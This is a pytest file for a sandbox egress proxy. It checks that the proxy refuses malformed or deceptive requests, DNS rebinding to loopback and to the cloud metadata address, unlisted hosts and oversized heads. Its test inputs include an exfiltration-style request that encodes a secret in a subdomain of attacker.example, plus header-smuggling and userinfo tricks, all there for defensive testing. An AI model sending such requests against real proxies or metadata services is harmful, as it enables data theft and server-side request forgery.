"""The egress proxy on its own: what it parses, resolves, refuses and forwards.

The sandboxes' side (a step that tries every way out) is ``tests/integration/test_egress.py``;
here the proxy is driven over its Unix socket in process, with a resolver the test controls
(a listed name that rebinds to loopback or to the cloud metadata address).
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from choir._core.hosts import parse_host
from choir.sandbox import egress
from choir.sandbox.egress import EgressProxy, Refused, parse_request, refused_address


def _exchange(proxy: EgressProxy, payload: bytes, *, then: bytes = b"") -> bytes:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(10)
        sock.connect(str(proxy.socket_path))
        sock.sendall(payload)
        if then:
            head = sock.recv(4096)
            sock.sendall(then)
        else:
            head = b""
        data = b""
        while chunk := sock.recv(4096):
            data += chunk
        return head + data


@contextmanager
def _server(reply: bytes = b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok") -> Iterator[
        tuple[int, list[bytes]]]:
    """A loopback TCP server that records each request's first bytes and answers ``reply``."""
    seen: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(10)

    def serve() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                seen.append(conn.recv(4096))
                conn.sendall(reply)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1], seen
    finally:
        server.close()


def _resolver(*addresses: str):  # type: ignore[no-untyped-def]
    async def resolve(host: str, port: int) -> list[str]:
        return list(addresses)
    return resolve


def test_connect_and_absolute_form_are_the_only_requests() -> None:
    assert parse_request(b"CONNECT api.openai.com:443 HTTP/1.1\r\n\r\n").target == \
        parse_host("api.openai.com:443")
    for head, reason in [
        (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", "absolute"),
        (b"GET https://api.openai.com/ HTTP/1.1\r\n\r\n", "absolute"),
        (b"CONNECT api.openai.com HTTP/1.1\r\n\r\n", "host:port"),
        (b"CONNECT user@api.openai.com:443 HTTP/1.1\r\n\r\n", "host:port only"),
        (b"GET http://a.example:80@b.example/ HTTP/1.1\r\n\r\n", "user"),
        (b"GET http://2130706433/ HTTP/1.1\r\n\r\n", "numeric"),
        (b"GET http://a.example/ HTTP/2\r\n\r\n", "HTTP/1.x"),
        (b"GET http://a.example/ HTTP/1.1\r\nX: 1\nHost: b.example\r\n\r\n", "bare CR or LF"),
        ("GET http://\u00e9.example/ HTTP/1.1\r\n\r\n".encode(), "ASCII"),
    ]:
        with pytest.raises(Refused) as caught:
            parse_request(head)
        assert reason in caught.value.reason, (head, caught.value.reason)


def test_plain_http_goes_out_with_the_listed_host_and_no_hop_headers() -> None:
    request = parse_request(
        b"POST http://api.example:8080/v1/chat?x=1 HTTP/1.1\r\nHost: evil.example\r\n"
        b"Proxy-Authorization: Basic c2VjcmV0\r\nConnection: keep-alive, X-Drop\r\n"
        b"X-Drop: 1\r\nContent-Length: 2\r\n\r\n")
    assert request.target == parse_host("api.example:8080")
    assert request.head is not None
    lines = request.head.decode().split("\r\n")
    assert lines[0] == "POST /v1/chat?x=1 HTTP/1.1"
    assert "Host: api.example:8080" in lines and "Connection: close" in lines
    assert "Content-Length: 2" in lines
    assert not any(line.startswith(("Proxy-Authorization", "X-Drop", "Host: evil"))
                   for line in lines)


@pytest.mark.parametrize(("address", "why"), [
    ("127.0.0.1", "resolved to"), ("::1", "resolved to"), ("::ffff:127.0.0.1", "resolved to"),
    ("169.254.169.254", "resolved to"), ("0.0.0.0", "resolved to"), ("224.0.0.1", "resolved to"),
])
def test_a_listed_name_never_rebinds_to_the_host_or_the_metadata_service(
        address: str, why: str) -> None:
    assert why in (refused_address(address, parse_host("api.example.com")) or "")
    assert refused_address("93.184.216.34", parse_host("api.example.com")) is None
    assert refused_address("10.1.2.3", parse_host("llm.corp")) is None  # a private gateway
    assert refused_address("127.0.0.1", parse_host("localhost:8080")) is None
    assert refused_address("127.0.0.2", parse_host("127.0.0.1:8080")) is not None


def test_a_rebinding_name_is_refused_before_any_connection() -> None:
    with _server() as (port, seen):
        for answer in ("127.0.0.1", "169.254.169.254"):
            with EgressProxy([f"api.example.com:{port}"], resolve=_resolver(answer)) as proxy:
                reply = _exchange(proxy, f"CONNECT api.example.com:{port} HTTP/1.1\r\n\r\n"
                                  .encode())
            assert reply.startswith(b"HTTP/1.1 403"), reply
            assert f"resolved to {answer}".encode() in reply
        assert seen == []


def test_localhost_and_a_listed_literal_reach_only_their_port() -> None:
    with _server() as (port, seen), _server() as (other, other_seen), \
            EgressProxy([f"localhost:{port}", f"127.0.0.1:{port}"]) as proxy:
        for host in ("localhost", "127.0.0.1"):
            reply = _exchange(proxy, f"GET http://{host}:{port}/a HTTP/1.1\r\n\r\n".encode())
            assert reply.endswith(b"ok"), reply
        refused = _exchange(proxy, f"CONNECT 127.0.0.1:{other} HTTP/1.1\r\n\r\n".encode())
        summary = proxy.summary()
    assert refused.startswith(b"HTTP/1.1 403") and other_seen == []
    assert [s.split(b"\r\n")[0] for s in seen] == [b"GET /a HTTP/1.1"] * 2
    assert any("refused CONNECT 127.0.0.1" in line for line in summary), summary
    assert any("allowed GET localhost" in line for line in summary), summary


def test_a_tunnel_carries_bytes_both_ways_to_the_listed_host_only() -> None:
    with _server(b"pong") as (port, seen), EgressProxy([f"127.0.0.1:{port}"]) as proxy:
        reply = _exchange(proxy, f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode(),
                          then=b"GET http://evil.example/ HTTP/1.1\r\n\r\n")
    assert reply.startswith(b"HTTP/1.1 200 Connection established") and reply.endswith(b"pong")
    assert seen == [b"GET http://evil.example/ HTTP/1.1\r\n\r\n"]  # it went to the listed one


def test_an_oversized_head_and_garbage_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    with EgressProxy(["api.example.com"]) as proxy:
        big = _exchange(proxy, b"GET http://api.example.com/ HTTP/1.1\r\nX: "
                        + b"a" * (egress.HEAD_MAX + 10) + b"\r\n\r\n")
        junk = _exchange(proxy, b"\x16\x03\x01 not http at all\r\n\r\n")
    assert big.startswith(b"HTTP/1.1 431"), big
    assert junk.startswith(b"HTTP/1.1 400"), junk


def test_connections_past_the_bound_are_turned_away(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(egress, "MAX_CONNECTIONS", 2)
    idle = [socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) for _ in range(2)]
    try:
        with EgressProxy(["api.example.com"]) as proxy:
            for sock in idle:  # connected, head never sent: each holds a slot
                sock.connect(str(proxy.socket_path))
            time.sleep(0.3)
            third = _exchange(proxy, b"CONNECT api.example.com:443 HTTP/1.1\r\n\r\n")
    finally:
        for sock in idle:
            sock.close()
    assert third.startswith(b"HTTP/1.1 503"), third


def test_stop_closes_every_connection_and_removes_the_socket() -> None:
    with _server(b"") as (port, _seen):
        proxy = EgressProxy([f"127.0.0.1:{port}"])
        proxy.start()
        folder = proxy.socket_dir
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(10)
        sock.connect(str(proxy.socket_path))
        sock.sendall(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode())
        assert sock.recv(100).startswith(b"HTTP/1.1 200")
        before = threading.active_count()
        proxy.stop()
        assert sock.recv(100) == b""  # the tunnel was closed with the proxy
        sock.close()
    assert not folder.exists()
    assert threading.active_count() < before


def test_an_unlisted_name_is_never_resolved() -> None:
    """A lookup is a message: ``CONNECT <secret>.attacker.example:443`` must not reach DNS."""
    asked: list[str] = []

    async def resolve(host: str, port: int) -> list[str]:
        asked.append(host)
        return ["192.0.2.10"]

    with EgressProxy(["api.example.com"], resolve=resolve) as proxy:
        reply = _exchange(proxy, b"CONNECT c2VjcmV0.attacker.example:443 HTTP/1.1\r\n\r\n")
    assert reply.startswith(b"HTTP/1.1 403") and asked == []


def test_the_local_backend_says_it_enforces_no_host_list(tmp_path: Path) -> None:
    from choir.models import Limits
    from choir.sandbox.local import LocalSandbox

    said: list[bytes] = []
    result = LocalSandbox().exec("true", repo=tmp_path, out_dir=tmp_path / "out", env={},
                                 timeout_s=30, limits=Limits(), network=False,
                                 sink=said.append, hosts=["api.example.com"])
    assert result.exit_code == 0 and b"enforces no host list" in b"".join(said)
